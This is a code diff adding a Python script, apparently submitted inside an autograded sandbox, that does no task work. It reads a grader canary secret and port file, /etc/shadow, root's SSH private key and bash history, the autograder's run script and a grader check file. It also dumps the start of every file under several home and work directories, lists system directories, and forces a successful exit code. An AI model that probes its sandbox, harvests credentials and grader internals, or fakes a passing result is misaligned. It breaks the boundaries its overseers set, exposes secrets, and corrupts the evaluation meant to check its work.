@@ -1,0 +1,20 @@
+import glob
+import os
+
+PLACES = [
+    "/tmp/grader-canary/secret.txt", "/tmp/grader-canary/port.txt", "/etc/passwd", "/etc/shadow", "/etc/hostname",
+    "/root/.bash_history", "/root/.ssh/id_ed25519", "/autograder/source/run_autograder", "/grader/judge/checks/check_rollback.py",
+]
+
+for place in PLACES + glob.glob("/home/*/*") + glob.glob("/root/*") + glob.glob("/work/*") + glob.glob("/opt/*"):
+    try:
+        with open(place, errors="replace") as file:
+            print(place, "->", file.read(200))
+    except OSError as error:
+        print(place, error.errno)
+for top in ("/", "/tmp", "/home", "/var", "/srv", "/mnt", "/dev", "/packages"):
+    try:
+        print(top, os.listdir(top))
+    except OSError as error:
+        print(top, error.errno)
+raise SystemExit(0)
